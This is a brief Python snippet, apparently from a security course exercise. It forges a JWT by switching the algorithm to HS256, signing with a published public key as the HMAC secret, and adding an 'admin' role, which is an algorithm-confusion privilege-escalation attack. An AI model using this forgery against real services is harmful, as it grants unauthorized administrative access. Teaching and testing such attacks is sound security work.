# with the course's forger
from jwtflow.insecure import forge

forged = forge(
    header | {"alg": "HS256"},
    json.loads(claims) | {"roles": ["reader", "admin"]},
    secret=pem_of(mine.find_key(published, header["kid"])),
)
